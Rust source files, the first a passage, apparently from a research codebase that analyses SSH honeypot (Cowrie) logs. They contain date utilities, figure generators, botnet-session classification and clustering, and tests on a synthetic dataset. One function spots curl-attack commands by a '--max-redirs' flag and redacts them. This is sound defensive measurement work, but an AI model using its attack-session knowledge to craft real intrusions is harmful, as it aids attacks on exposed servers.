    pub fn hour(self) -> u8 {
        (self.seconds_of_day() / 3600) as u8
    }

    /// The instant `secs` seconds later.
    pub fn plus_secs(self, secs: i64) -> Self {
        Self(self.0 + secs)
    }

    /// Signed difference in seconds, `self - other`.
    pub fn secs_since(self, other: DateTime) -> i64 {
        self.0 - other.0
    }

    /// `"2022-12-08 18:00:00"`.
    pub fn label(self) -> String {
        let d = self.date();
        let s = self.seconds_of_day();
        format!(
            "{} {:02}:{:02}:{:02}",
            d.label(),
            s / 3600,
            (s / 60) % 60,
            s % 60
        )
    }

    /// `"2022-12-08T18:00:00Z"` — the timestamp format Cowrie logs use
    /// (to second precision).
    pub fn iso8601(self) -> String {
        let d = self.date();
        let s = self.seconds_of_day();
        format!(
            "{}T{:02}:{:02}:{:02}Z",
            d.label(),
            s / 3600,
            (s / 60) % 60,
            s % 60
        )
    }

    /// Parses `"2022-12-08T18:00:00Z"` (fractional seconds and numeric
    /// offsets accepted and discarded — Cowrie emits microseconds).
    pub fn parse_iso8601(s: &str) -> Option<DateTime> {
        let bytes = s.as_bytes();
        if bytes.len() < 19 || bytes[4] != b'-' || bytes[7] != b'-' || bytes[10] != b'T' {
            return None;
        }
        let num = |range: std::ops::Range<usize>| -> Option<i64> {
            std::str::from_utf8(&bytes[range]).ok()?.parse().ok()
        };
        let year = num(0..4)? as i32;
        let month = num(5..7)? as u8;
        let day = num(8..10)? as u8;
        let hour = num(11..13)? as u8;
        let minute = num(14..16)? as u8;
        let second = num(17..19)? as u8;
        if !(1..=12).contains(&month)
            || day < 1
            || day > Date::days_in_month(year, month)
            || hour > 23
            || minute > 59
            || second > 59
        {
            return None;
        }
        Some(Date::new(year, month, day).at(hour, minute, second))
    }
}

impl std::fmt::Display for DateTime {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.label())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn epoch_roundtrip_known_days() {
        assert_eq!(Date::new(1970, 1, 1).to_epoch_days(), 0);
        assert_eq!(Date::new(1970, 1, 2).to_epoch_days(), 1);
        assert_eq!(Date::new(1969, 12, 31).to_epoch_days(), -1);
        assert_eq!(Date::new(2000, 3, 1).to_epoch_days(), 11_017);
        assert_eq!(Date::from_epoch_days(19_327), Date::new(2022, 12, 1));
    }

    #[test]
    fn roundtrip_over_study_window() {
        let start = Date::new(2021, 12, 1).to_epoch_days();
        let end = Date::new(2024, 8, 31).to_epoch_days();
        for d in start..=end {
            assert_eq!(Date::from_epoch_days(d).to_epoch_days(), d);
        }
        // The study window is 33 months and 1005 days long.
        assert_eq!(end - start + 1, 1005);
    }

    #[test]
    fn leap_years() {
        assert!(Date::is_leap_year(2024));
        assert!(!Date::is_leap_year(2023));
        assert!(!Date::is_leap_year(1900));
        assert!(Date::is_leap_year(2000));
        assert_eq!(Date::days_in_month(2024, 2), 29);
        assert_eq!(Date::days_in_month(2023, 2), 28);
    }

    #[test]
    fn weekdays() {
        assert_eq!(Date::new(1970, 1, 1).weekday(), 4); // Thursday
        assert_eq!(Date::new(2021, 12, 1).weekday(), 3); // Wednesday
        assert_eq!(Date::new(2024, 8, 31).weekday(), 6); // Saturday
    }

    #[test]
    fn month_iteration_covers_33_months() {
        let months: Vec<_> =
            Month::range_inclusive(Month::new(2021, 12), Month::new(2024, 8)).collect();
        assert_eq!(months.len(), 33);
        assert_eq!(months[0].label(), "2021-12");
        assert_eq!(months[32].label(), "2024-08");
        assert_eq!(months[13].label(), "2023-01");
    }

    #[test]
    fn month_index_from() {
        let start = Month::new(2021, 12);
        assert_eq!(Month::new(2021, 12).index_from(start), Some(0));
        assert_eq!(Month::new(2022, 1).index_from(start), Some(1));
        assert_eq!(Month::new(2024, 8).index_from(start), Some(32));
        assert_eq!(Month::new(2021, 11).index_from(start), None);
    }

    #[test]
    fn datetime_fields() {
        let dt = Date::new(2022, 12, 8).at(18, 0, 0);
        assert_eq!(dt.label(), "2022-12-08 18:00:00");
        assert_eq!(dt.hour(), 18);
        assert_eq!(dt.date(), Date::new(2022, 12, 8));
        assert_eq!(dt.plus_secs(3 * 60).label(), "2022-12-08 18:03:00");
    }

    #[test]
    fn negative_unix_times_truncate_toward_past() {
        let dt = DateTime::from_unix(-1);
        assert_eq!(dt.date(), Date::new(1969, 12, 31));
        assert_eq!(dt.seconds_of_day(), 86_399);
    }

    #[test]
    fn plus_days_crosses_boundaries() {
        assert_eq!(Date::new(2022, 12, 31).plus_days(1), Date::new(2023, 1, 1));
        assert_eq!(Date::new(2024, 3, 1).plus_days(-1), Date::new(2024, 2, 29));
    }

    #[test]
    fn quarters() {
        assert_eq!(Month::new(2022, 1).quarter(), 1);
        assert_eq!(Month::new(2022, 4).quarter(), 2);
        assert_eq!(Month::new(2022, 12).quarter(), 4);
    }
}
