//! Figure and table generators (one per paper artefact) plus plain-text
//! renderers used by the benches and examples.

use crate::classify::Classifier;
use crate::cluster::{self, Clustering, DistanceMatrix};
use crate::coverage::{MonthlyCoverage, COVERAGE_GAP_THRESHOLD};
use crate::taxonomy::{SessionClass, TaxonomyStats};
use crate::tokens;
use abusedb::AbuseDb;
use honeypot::SessionRecord;
use hutil::stats::BoxplotSummary;
use hutil::{Date, Month};
use std::collections::{BTreeMap, HashMap};

/// Whether one session is a command-execution SSH session (what §5
/// analyses).
pub fn is_command_session(s: &SessionRecord) -> bool {
    s.protocol == honeypot::Protocol::Ssh && SessionClass::of(s) == SessionClass::CommandExecution
}

/// Filters to command-execution SSH sessions.
pub fn command_sessions(sessions: &[SessionRecord]) -> Vec<&SessionRecord> {
    sessions.iter().filter(|s| is_command_session(s)).collect()
}

/// Fig. 1: per month, the daily-count distributions of state-changing vs
/// non-state-changing command sessions.
#[derive(Debug, Clone)]
pub struct Fig1 {
    /// Months in order.
    pub months: Vec<Month>,
    /// Boxplot of daily counts of state-changing sessions per month.
    pub changing: Vec<Option<BoxplotSummary>>,
    /// Same for non-state-changing sessions.
    pub not_changing: Vec<Option<BoxplotSummary>>,
}

/// Builds Fig. 1.
pub fn fig1(sessions: &[SessionRecord]) -> Fig1 {
    let mut daily: BTreeMap<Date, (u64, u64)> = BTreeMap::new();
    for s in command_sessions(sessions) {
        let e = daily.entry(s.start.date()).or_default();
        if s.paper_state_changing() {
            e.0 += 1;
        } else {
            e.1 += 1;
        }
    }
    let months = study_months(sessions);
    let mut changing = Vec::with_capacity(months.len());
    let mut not_changing = Vec::with_capacity(months.len());
    for m in &months {
        let ch: Vec<f64> = daily
            .iter()
            .filter(|(d, _)| d.month_of() == *m)
            .map(|(_, (c, _))| *c as f64)
            .collect();
        let nc: Vec<f64> = daily
            .iter()
            .filter(|(d, _)| d.month_of() == *m)
            .map(|(_, (_, n))| *n as f64)
            .collect();
        changing.push(BoxplotSummary::from_values(&ch));
        not_changing.push(BoxplotSummary::from_values(&nc));
    }
    Fig1 {
        months,
        changing,
        not_changing,
    }
}

/// Per-figure-month observed-coverage fractions, aligned with a figure's
/// month axis. Months outside the coverage calendar read as fully
/// observed.
pub fn coverage_series(months: &[Month], mc: &MonthlyCoverage) -> Vec<f64> {
    months
        .iter()
        .map(|m| mc.index_of(*m).map_or(1.0, |i| mc.fraction(i)))
        .collect()
}

/// Fig. 1 with a coverage column: each month carries the fraction of
/// sensor-days that were actually observing, so a depressed boxplot in a
/// low-coverage month is not read as an attack-rate change.
#[derive(Debug, Clone)]
pub struct Fig1Cov {
    /// The unannotated figure.
    pub fig: Fig1,
    /// Observed-coverage fraction per figure month.
    pub coverage: Vec<f64>,
}

/// Builds Fig. 1 annotated with monthly coverage.
pub fn fig1_with_coverage(sessions: &[SessionRecord], mc: &MonthlyCoverage) -> Fig1Cov {
    let fig = fig1(sessions);
    let coverage = coverage_series(&fig.months, mc);
    Fig1Cov { fig, coverage }
}

/// Builds Fig. 2 plus its aligned coverage series.
pub fn fig2_with_coverage(
    sessions: &[SessionRecord],
    cl: &Classifier,
    mc: &MonthlyCoverage,
) -> (MonthlyCategories, Vec<f64>) {
    let fig = fig2(sessions, cl);
    let coverage = coverage_series(&fig.months, mc);
    (fig, coverage)
}

/// A monthly stacked-category figure (Figs. 2, 3a, 3b, 4a, 4b, 6, 17 share
/// this shape): per month, counts per category label.
#[derive(Debug, Clone, Default)]
pub struct MonthlyCategories {
    /// Months in order.
    pub months: Vec<Month>,
    /// Category labels.
    pub labels: Vec<String>,
    /// `counts[m][l]` = sessions of label `l` in month `m`.
    pub counts: Vec<Vec<u64>>,
}

impl MonthlyCategories {
    fn from_events(events: impl Iterator<Item = (Month, String)>, months: Vec<Month>) -> Self {
        let mut label_ix: HashMap<String, usize> = HashMap::new();
        let mut labels: Vec<String> = Vec::new();
        let month_ix: HashMap<Month, usize> =
            months.iter().enumerate().map(|(i, m)| (*m, i)).collect();
        let mut counts: Vec<Vec<u64>> = vec![Vec::new(); months.len()];
        for (month, label) in events {
            let Some(&mi) = month_ix.get(&month) else {
                continue;
            };
            let li = *label_ix.entry(label.clone()).or_insert_with(|| {
                labels.push(label.clone());
                labels.len() - 1
            });
            if counts[mi].len() < labels.len() {
                counts[mi].resize(labels.len(), 0);
            }
            counts[mi][li] += 1;
        }
        for row in &mut counts {
            row.resize(labels.len(), 0);
        }
        Self {
            months,
            labels,
            counts,
        }
    }

    /// Total sessions in month index `mi`.
    pub fn month_total(&self, mi: usize) -> u64 {
        self.counts[mi].iter().sum()
    }

    /// The top-`k` labels of month `mi` by count.
    pub fn top_labels(&self, mi: usize, k: usize) -> Vec<(&str, u64)> {
        let idx = hutil::stats::top_k_indices(&self.counts[mi], k);
        idx.into_iter()
            .filter(|&i| self.counts[mi][i] > 0)
            .map(|i| (self.labels[i].as_str(), self.counts[mi][i]))
            .collect()
    }

    /// Aggregate totals per label across all months, descending.
    pub fn totals(&self) -> Vec<(String, u64)> {
        let mut t: Vec<u64> = vec![0; self.labels.len()];
        for row in &self.counts {
            for (i, c) in row.iter().enumerate() {
                t[i] += c;
            }
        }
        let mut out: Vec<(String, u64)> = self.labels.iter().cloned().zip(t).collect();
        out.sort_by_key(|entry| std::cmp::Reverse(entry.1));
        out
    }

    /// Renders a compact text table: months as rows, top labels as columns.
    pub fn render(&self, title: &str, top: usize) -> String {
        let mut out = format!("== {title} ==\n");
        let totals = self.totals();
        let cols: Vec<&str> = totals.iter().take(top).map(|(l, _)| l.as_str()).collect();
        out.push_str(&format!("{:<9}", "month"));
        for c in &cols {
            out.push_str(&format!(" {c:>22}"));
        }
        out.push_str(&format!(" {:>10}\n", "total"));
        for (mi, m) in self.months.iter().enumerate() {
            out.push_str(&format!("{:<9}", m.label()));
            for c in &cols {
                let li = self
                    .labels
                    .iter()
                    .position(|l| l == c)
                    .expect("label exists");
                out.push_str(&format!(" {:>22}", self.counts[mi][li]));
            }
            out.push_str(&format!(" {:>10}\n", self.month_total(mi)));
        }
        out
    }
}

fn study_months(sessions: &[SessionRecord]) -> Vec<Month> {
    let (first, last) = match (sessions.first(), sessions.last()) {
        (Some(f), Some(l)) => (f.start.date().month_of(), l.start.date().month_of()),
        _ => return Vec::new(),
    };
    Month::range_inclusive(first, last).collect()
}

/// Fig. 2: categories of non-state-changing command sessions.
pub fn fig2(sessions: &[SessionRecord], cl: &Classifier) -> MonthlyCategories {
    let months = study_months(sessions);
    MonthlyCategories::from_events(
        command_sessions(sessions)
            .into_iter()
            .filter(|s| !s.paper_state_changing())
            .map(|s| {
                (
                    s.start.date().month_of(),
                    cl.classify(&s.command_text()).to_string(),
                )
            }),
        months,
    )
}

/// Fig. 3a: categories of sessions that add/modify/delete files without
/// executing any.
pub fn fig3a(sessions: &[SessionRecord], cl: &Classifier) -> MonthlyCategories {
    let months = study_months(sessions);
    MonthlyCategories::from_events(
        command_sessions(sessions)
            .into_iter()
            .filter(|s| s.changes_state() && !s.attempts_exec())
            .map(|s| {
                (
                    s.start.date().month_of(),
                    cl.classify(&s.command_text()).to_string(),
                )
            }),
        months,
    )
}

/// Fig. 3b: categories of sessions attempting to execute files.
pub fn fig3b(sessions: &[SessionRecord], cl: &Classifier) -> MonthlyCategories {
    let months = study_months(sessions);
    MonthlyCategories::from_events(
        command_sessions(sessions)
            .into_iter()
            .filter(|s| s.attempts_exec())
            .map(|s| {
                (
                    s.start.date().month_of(),
                    cl.classify(&s.command_text()).to_string(),
                )
            }),
        months,
    )
}

/// Fig. 4: exec sessions split by whether the executed file existed.
pub fn fig4(sessions: &[SessionRecord], cl: &Classifier) -> (MonthlyCategories, MonthlyCategories) {
    let months = study_months(sessions);
    let exec: Vec<&SessionRecord> = command_sessions(sessions)
        .into_iter()
        .filter(|s| s.attempts_exec())
        .collect();
    let exists = MonthlyCategories::from_events(
        exec.iter()
            .filter(|s| s.exec_hashes().next().is_some())
            .map(|s| {
                (
                    s.start.date().month_of(),
                    cl.classify(&s.command_text()).to_string(),
                )
            }),
        months.clone(),
    );
    let missing = MonthlyCategories::from_events(
        exec.iter()
            .filter(|s| s.exec_hashes().next().is_none() && s.has_missing_exec())
            .map(|s| {
                (
                    s.start.date().month_of(),
                    cl.classify(&s.command_text()).to_string(),
                )
            }),
        months,
    );
    (exists, missing)
}

/// Fig. 16 (Appendix D): unique exec-session command texts per month,
/// split by file-exists vs file-missing.
pub fn fig16(sessions: &[SessionRecord]) -> BTreeMap<Month, (u64, u64)> {
    let mut uniq: BTreeMap<
        Month,
        (
            std::collections::HashSet<String>,
            std::collections::HashSet<String>,
        ),
    > = BTreeMap::new();
    for s in command_sessions(sessions)
        .into_iter()
        .filter(|s| s.attempts_exec())
    {
        let m = s.start.date().month_of();
        let e = uniq.entry(m).or_default();
        if s.exec_hashes().next().is_some() {
            e.0.insert(s.command_text());
        } else if s.has_missing_exec() {
            e.1.insert(s.command_text());
        }
    }
    uniq.into_iter()
        .map(|(m, (a, b))| (m, (a.len() as u64, b.len() as u64)))
        .collect()
}

/// The §6 cluster analysis backing Figs. 5 and 6.
pub struct ClusterAnalysis {
    /// Unique session signatures.
    pub signatures: Vec<Vec<String>>,
    /// Session count per signature.
    pub weights: Vec<u64>,
    /// The clustering.
    pub clustering: Clustering,
    /// Display order of clusters (ascending mean token count).
    pub order: Vec<usize>,
    /// Family label per cluster (in raw cluster index space), derived by
    /// cross-referencing member file hashes with the abuse database.
    pub labels: Vec<String>,
    /// Sessions per (month, cluster).
    pub monthly: BTreeMap<Month, Vec<u64>>,
    /// Medoid-to-medoid normalized DLD, in display order (Fig. 5).
    pub medoid_matrix: Vec<Vec<f64>>,
}

/// Runs the clustering pipeline over sessions that loaded files onto the
/// honeypot (paper: 3M such sessions, 16,257 hashes, k = 90).
pub fn cluster_analysis(
    sessions: &[SessionRecord],
    abuse: &AbuseDb,
    k: usize,
    seed: u64,
) -> ClusterAnalysis {
    // Sessions with captured files.
    let file_sessions: Vec<&SessionRecord> = command_sessions(sessions)
        .into_iter()
        .filter(|s| s.dropped_hashes().next().is_some() && !s.uris.is_empty())
        .collect();
    // Dedupe by signature, weighting by session count.
    let mut sig_ix: HashMap<Vec<String>, usize> = HashMap::new();
    let mut signatures: Vec<Vec<String>> = Vec::new();
    let mut weights: Vec<u64> = Vec::new();
    let mut members: Vec<Vec<&SessionRecord>> = Vec::new();
    for s in &file_sessions {
        let sig = tokens::signature(&s.command_text());
        match sig_ix.get(&sig) {
            Some(&i) => {
                weights[i] += 1;
                members[i].push(s);
            }
            None => {
                sig_ix.insert(sig.clone(), signatures.len());
                signatures.push(sig);
                weights.push(1);
                members.push(vec![s]);
            }
        }
    }
    let matrix = DistanceMatrix::build(&signatures);
    let clustering = cluster::k_medoids(&matrix, &weights, k, seed);
    let order = cluster::order_by_avg_tokens(&signatures, &weights, &clustering);

    // Label clusters by family votes from abuse lookups of member hashes.
    let mut labels = vec![String::from("unlabelled"); clustering.k()];
    for (c, label) in labels.iter_mut().enumerate() {
        let mut votes: BTreeMap<&'static str, u64> = BTreeMap::new();
        for i in clustering.members(c) {
            for s in &members[i] {
                for h in s.dropped_hashes() {
                    if let Some(f) = abuse.lookup(h) {
                        *votes.entry(f.label()).or_default() += 1;
                    }
                }
            }
        }
        if !votes.is_empty() {
            let mut v: Vec<(&str, u64)> = votes.into_iter().collect();
            v.sort_by_key(|entry| std::cmp::Reverse(entry.1));
            *label = v
                .iter()
                .take(4)
                .map(|(f, _)| *f)
                .collect::<Vec<_>>()
                .join(", ");
        }
    }

    // Monthly sessions per cluster.
    let mut monthly: BTreeMap<Month, Vec<u64>> = BTreeMap::new();
    for (i, ms) in members.iter().enumerate() {
        let c = clustering.assignment[i];
        for s in ms {
            let row = monthly
                .entry(s.start.date().month_of())
                .or_insert_with(|| vec![0; clustering.k()]);
            row[c] += 1;
        }
    }

    // Fig. 5 medoid matrix in display order.
    let medoid_matrix: Vec<Vec<f64>> = order
        .iter()
        .map(|&a| {
            order
                .iter()
                .map(|&b| matrix.get(clustering.medoids[a], clustering.medoids[b]))
                .collect()
        })
        .collect();

    ClusterAnalysis {
        signatures,
        weights,
        clustering,
        order,
        labels,
        monthly,
        medoid_matrix,
    }
}

impl ClusterAnalysis {
    /// Total sessions per cluster, descending — Fig. 6's top-5 selection.
    pub fn top_clusters(&self, n: usize) -> Vec<(usize, u64)> {
        let k = self.clustering.k();
        let mut totals = vec![0u64; k];
        for row in self.monthly.values() {
            for (c, v) in row.iter().enumerate() {
                totals[c] += v;
            }
        }
        let mut idx: Vec<usize> = (0..k).collect();
        idx.sort_by(|&a, &b| totals[b].cmp(&totals[a]));
        idx.into_iter().take(n).map(|c| (c, totals[c])).collect()
    }

    /// Display position (1-based "Cluster N") of raw cluster `c`.
    pub fn display_rank(&self, c: usize) -> usize {
        self.order.iter().position(|&x| x == c).map_or(0, |p| p + 1)
    }
}

/// Fig. 14: mean normalized DLD between bot categories.
pub struct Fig14 {
    /// Category labels in matrix order.
    pub labels: Vec<String>,
    /// `matrix[a][b]` = mean normalized DLD between category exemplars.
    pub matrix: Vec<Vec<f64>>,
}

/// Builds Fig. 14 from up to `samples_per_cat` exemplar signatures per
/// category.
pub fn fig14(sessions: &[SessionRecord], cl: &Classifier, samples_per_cat: usize) -> Fig14 {
    let mut per_cat: BTreeMap<&'static str, Vec<Vec<String>>> = BTreeMap::new();
    for s in command_sessions(sessions) {
        let label = cl.classify(&s.command_text());
        if label == crate::classify::UNKNOWN_LABEL {
            continue;
        }
        let v = per_cat.entry(label).or_default();
        if v.len() < samples_per_cat {
            v.push(tokens::signature(&s.command_text()));
        }
    }
    let labels: Vec<String> = per_cat.keys().map(|s| s.to_string()).collect();
    let sets: Vec<&Vec<Vec<String>>> = per_cat.values().collect();
    let n = sets.len();
    let mut matrix = vec![vec![0.0f64; n]; n];
    for a in 0..n {
        for b in a..n {
            let mut sum = 0.0;
            let mut cnt = 0u64;
            for sa in sets[a] {
                for sb in sets[b] {
                    sum += crate::dld::normalized_dld(sa, sb);
                    cnt += 1;
                }
            }
            let mean = if cnt > 0 { sum / cnt as f64 } else { 0.0 };
            matrix[a][b] = mean;
            matrix[b][a] = mean;
        }
    }
    Fig14 { labels, matrix }
}

/// Fig. 15 (Appendix C): a representative curl-attack command, redacted
/// like the paper's listing.
pub fn fig15_snippet(sessions: &[SessionRecord]) -> Option<String> {
    sessions
        .iter()
        .flat_map(|s| s.commands.iter())
        .find(|c| c.input.contains("--max-redirs"))
        .map(|c| {
            let mut out = String::new();
            for tok in c.input.split_whitespace() {
                let red = if tok.starts_with("https://") || tok.starts_with("http://") {
                    "https://<X.X.X.X>/".to_string()
                } else if tok.starts_with('\'') {
                    "'<hidden>'".to_string()
                } else {
                    tok.to_string()
                };
                if !out.is_empty() {
                    out.push(' ');
                }
                out.push_str(&red);
            }
            out
        })
}

/// Streaming accumulator behind [`classification_coverage`] and
/// [`category_counts`]: one classifier evaluation per command session
/// serves both the Table 1 histogram and the §5 coverage fraction.
pub struct ClassificationAccumulator<'c> {
    cl: &'c Classifier,
    counts: HashMap<&'static str, u64>,
    total: u64,
    known: u64,
}

impl<'c> ClassificationAccumulator<'c> {
    /// An empty accumulator classifying with `cl`.
    pub fn new(cl: &'c Classifier) -> Self {
        Self {
            cl,
            counts: HashMap::new(),
            total: 0,
            known: 0,
        }
    }

    /// Folds one session in (non-command sessions are ignored).
    pub fn push(&mut self, s: &SessionRecord) {
        if !is_command_session(s) {
            return;
        }
        self.total += 1;
        let label = self.cl.classify(&s.command_text());
        if label != crate::classify::UNKNOWN_LABEL {
            self.known += 1;
        }
        *self.counts.entry(label).or_default() += 1;
    }

    /// Folds another accumulator in: category counts and the
    /// total/known tallies sum. Associative and commutative. Both
    /// accumulators must borrow the same [`Classifier`] (they share its
    /// exhaustion counter either way — see
    /// [`Classifier::budget_exhaustions`]).
    pub fn merge(&mut self, other: Self) {
        self.total += other.total;
        self.known += other.known;
        for (label, c) in other.counts {
            *self.counts.entry(label).or_default() += c;
        }
    }

    /// Step-budget exhaustions recorded by the underlying classifier so
    /// far (process-wide for this classifier instance, not restricted to
    /// sessions pushed into this accumulator).
    pub fn budget_exhaustions(&self) -> u64 {
        self.cl.budget_exhaustions()
    }

    /// Fraction of command sessions classified into a non-`unknown`
    /// category; `1.0` when no command sessions were seen.
    pub fn coverage(&self) -> f64 {
        if self.total == 0 {
            return 1.0;
        }
        self.known as f64 / self.total as f64
    }

    /// Category totals, descending by count (ties alphabetical).
    pub fn finish(self) -> Vec<(&'static str, u64)> {
        let mut out: Vec<(&'static str, u64)> = self.counts.into_iter().collect();
        out.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(b.0)));
        out
    }
}

/// Table 1 / §5 coverage: fraction of command sessions classified into a
/// non-`unknown` category (paper: >99 %). Single pass over any session
/// stream.
pub fn classification_coverage<I>(sessions: I, cl: &Classifier) -> f64
where
    I: IntoIterator,
    I::Item: std::borrow::Borrow<SessionRecord>,
{
    let mut acc = ClassificationAccumulator::new(cl);
    for s in sessions {
        acc.push(std::borrow::Borrow::borrow(&s));
    }
    acc.coverage()
}

/// Table 1 category totals over the command sessions of any session
/// stream, descending by count. Single pass, O(categories) memory — the
/// streaming replacement for materializing [`command_sessions`] just to
/// histogram it.
pub fn category_counts<I>(sessions: I, cl: &Classifier) -> Vec<(&'static str, u64)>
where
    I: IntoIterator,
    I::Item: std::borrow::Borrow<SessionRecord>,
{
    let mut acc = ClassificationAccumulator::new(cl);
    for s in sessions {
        acc.push(std::borrow::Borrow::borrow(&s));
    }
    acc.finish()
}

/// The §3.3 dataset-statistics table, rendered.
pub fn render_dataset_stats(stats: &TaxonomyStats, scale: u64) -> String {
    let f = |v: u64| format!("{v} (paper-scale ≈ {})", v * scale);
    format!(
        "== Dataset statistics (§3.3) ==\n\
         total sessions:      {}\n\
         ssh sessions:        {}\n\
         telnet sessions:     {}\n\
         unique ssh clients:  {}\n\
         scanning:            {}\n\
         scouting:            {}\n\
         intrusion:           {}\n\
         command execution:   {}\n\
         ordering (scout > cmd > intr > scan): {}\n",
        f(stats.total_sessions),
        f(stats.ssh_sessions),
        f(stats.telnet_sessions),
        stats.unique_ssh_clients,
        f(stats.scanning),
        f(stats.scouting),
        f(stats.intrusion),
        f(stats.command_execution),
        stats.ordering_matches_paper()
    )
}

/// Renders the Fig. 1 boxplot table.
pub fn render_fig1(fig: &Fig1) -> String {
    let mut out = String::from(
        "== Fig 1: daily command sessions per month (median [q1,q3]) ==\n\
         month     state-changing          not-changing\n",
    );
    for (i, m) in fig.months.iter().enumerate() {
        let cell = |b: &Option<BoxplotSummary>| match b {
            Some(s) => format!("{:>7.0} [{:>6.0},{:>6.0}]", s.median, s.q1, s.q3),
            None => format!("{:>23}", "-"),
        };
        out.push_str(&format!(
            "{:<9} {} {}\n",
            m.label(),
            cell(&fig.changing[i]),
            cell(&fig.not_changing[i])
        ));
    }
    out
}

/// Renders the coverage-annotated Fig. 1: the extra column shows the
/// observed fraction, with `!` marking months below the gap threshold.
pub fn render_fig1_cov(fig: &Fig1Cov) -> String {
    let mut out = String::from(
        "== Fig 1: daily command sessions per month (median [q1,q3]; cov = observed fraction) ==\n\
         month     state-changing          not-changing                 cov\n",
    );
    for (i, m) in fig.fig.months.iter().enumerate() {
        let cell = |b: &Option<BoxplotSummary>| match b {
            Some(s) => format!("{:>7.0} [{:>6.0},{:>6.0}]", s.median, s.q1, s.q3),
            None => format!("{:>23}", "-"),
        };
        let cov = fig.coverage[i];
        let mark = if cov < COVERAGE_GAP_THRESHOLD {
            "!"
        } else {
            " "
        };
        out.push_str(&format!(
            "{:<9} {} {}  {:>6.3}{}\n",
            m.label(),
            cell(&fig.fig.changing[i]),
            cell(&fig.fig.not_changing[i]),
            cov,
            mark
        ));
    }
    out
}

/// Renders the Fig. 5 medoid-distance heatmap (numeric).
pub fn render_fig5(ca: &ClusterAnalysis, max_rows: usize) -> String {
    let mut out = String::from("== Fig 5: normalized DLD between cluster medoids ==\n");
    let n = ca.medoid_matrix.len().min(max_rows);
    for i in 0..n {
        let row: Vec<String> = ca.medoid_matrix[i][..n]
            .iter()
            .map(|d| format!("{d:4.2}"))
            .collect();
        out.push_str(&format!("C{:<3} {}\n", i + 1, row.join(" ")));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use botnet::{generate_dataset, Dataset, DriverConfig};

    fn ds() -> &'static Dataset {
        static DS: std::sync::OnceLock<Dataset> = std::sync::OnceLock::new();
        DS.get_or_init(|| generate_dataset(&DriverConfig::test_scale(11)))
    }

    #[test]
    fn fig1_coverage_flags_only_maintenance_month() {
        let d = ds();
        let cal = crate::coverage::CoverageCalendar::from_schedule(&d.outages);
        let mc = MonthlyCoverage::from_calendar(&cal, d.fleet.len());
        let f = fig1_with_coverage(&d.sessions, &mc);
        let oct = f
            .fig
            .months
            .iter()
            .position(|m| *m == Month::new(2023, 10))
            .unwrap();
        assert!(
            f.coverage[oct] < COVERAGE_GAP_THRESHOLD,
            "cov {}",
            f.coverage[oct]
        );
        for (i, c) in f.coverage.iter().enumerate() {
            if i != oct {
                assert!(
                    *c >= COVERAGE_GAP_THRESHOLD,
                    "month {:?} cov {c}",
                    f.fig.months[i]
                );
            }
        }
        let text = render_fig1_cov(&f);
        assert!(text.contains('!'), "gap marker rendered");
    }

    #[test]
    fn fig1_shift_toward_scouting_in_2023() {
        let f = fig1(&ds().sessions);
        // Compare mid-2022 vs mid-2023 medians: not-changing overtakes.
        let ix = |y, m| {
            f.months
                .iter()
                .position(|x| *x == Month::new(y, m))
                .unwrap()
        };
        let mid22 = ix(2022, 6);
        let mid23 = ix(2023, 6);
        let nc22 = f.not_changing[mid22].as_ref().unwrap().median;
        let nc23 = f.not_changing[mid23].as_ref().unwrap().median;
        assert!(
            nc23 > nc22 * 1.5,
            "2023 scouting should grow: {nc22} -> {nc23}"
        );
        let ch23 = f.changing[mid23].as_ref().unwrap().median;
        assert!(nc23 > ch23, "not-changing should dominate in 2023");
    }

    #[test]
    fn fig2_echo_ok_dominates() {
        let cl = Classifier::table1();
        let f = fig2(&ds().sessions, &cl);
        let totals = f.totals();
        assert_eq!(totals[0].0, "echo_OK", "totals: {:?}", &totals[..3]);
        let total: u64 = totals.iter().map(|(_, c)| c).sum();
        assert!(
            totals[0].1 as f64 / total as f64 > 0.6,
            "echo_OK share too small: {:?}",
            &totals[..3]
        );
    }

    #[test]
    fn fig3a_mdrfckr_dominates() {
        let cl = Classifier::table1();
        let f = fig3a(&ds().sessions, &cl);
        let totals = f.totals();
        assert_eq!(totals[0].0, "mdrfckr", "totals: {:?}", &totals[..3]);
        let total: u64 = totals.iter().map(|(_, c)| c).sum();
        assert!(totals[0].1 as f64 / total as f64 > 0.8);
    }

    #[test]
    fn fig3b_exec_sessions_decline() {
        let cl = Classifier::table1();
        let f = fig3b(&ds().sessions, &cl);
        let ix = |y, m| {
            f.months
                .iter()
                .position(|x| *x == Month::new(y, m))
                .unwrap()
        };
        let early: u64 = (0..6).map(|i| f.month_total(ix(2022, 2) + i)).sum();
        let late: u64 = (0..6).map(|i| f.month_total(ix(2024, 1) + i)).sum();
        assert!(
            late * 2 < early,
            "exec sessions should decline: {early} -> {late}"
        );
        // bbox family leads.
        let totals = f.totals();
        assert!(
            totals[0].0.starts_with("bbox"),
            "top exec bot should be busybox-based: {:?}",
            &totals[..3]
        );
    }

    #[test]
    fn fig4_exists_collapses_after_2022() {
        let cl = Classifier::table1();
        let (exists, missing) = fig4(&ds().sessions, &cl);
        let sum_year = |mc: &MonthlyCategories, y: i32| -> u64 {
            mc.months
                .iter()
                .enumerate()
                .filter(|(_, m)| m.year == y)
                .map(|(i, _)| mc.month_total(i))
                .sum()
        };
        let e22 = sum_year(&exists, 2022);
        let e23 = sum_year(&exists, 2023);
        assert!(e23 * 4 < e22, "file-exists should collapse: {e22} -> {e23}");
        let m23 = sum_year(&missing, 2023);
        assert!(m23 > e23, "missing should dominate in 2023: {m23} vs {e23}");
    }

    #[test]
    fn cluster_analysis_labels_known_families() {
        let ca = cluster_analysis(&ds().sessions, &ds().abuse, 12, 5);
        assert_eq!(ca.clustering.k(), 12.min(ca.signatures.len()));
        // At least one cluster picks up a family label from the abuse DB.
        let labelled = ca.labels.iter().filter(|l| *l != "unlabelled").count();
        assert!(labelled >= 1, "labels: {:?}", ca.labels);
        // Top clusters carry the bulk of sessions.
        let top = ca.top_clusters(5);
        let top_sum: u64 = top.iter().map(|(_, n)| n).sum();
        let all: u64 = ca.weights.iter().sum();
        assert!(top_sum as f64 / all as f64 > 0.5);
        // Medoid matrix is square in display order with zero diagonal.
        for (i, row) in ca.medoid_matrix.iter().enumerate() {
            assert_eq!(row.len(), ca.medoid_matrix.len());
            assert_eq!(row[i], 0.0);
        }
    }

    #[test]
    fn fig14_is_symmetric_with_zero_diagonal() {
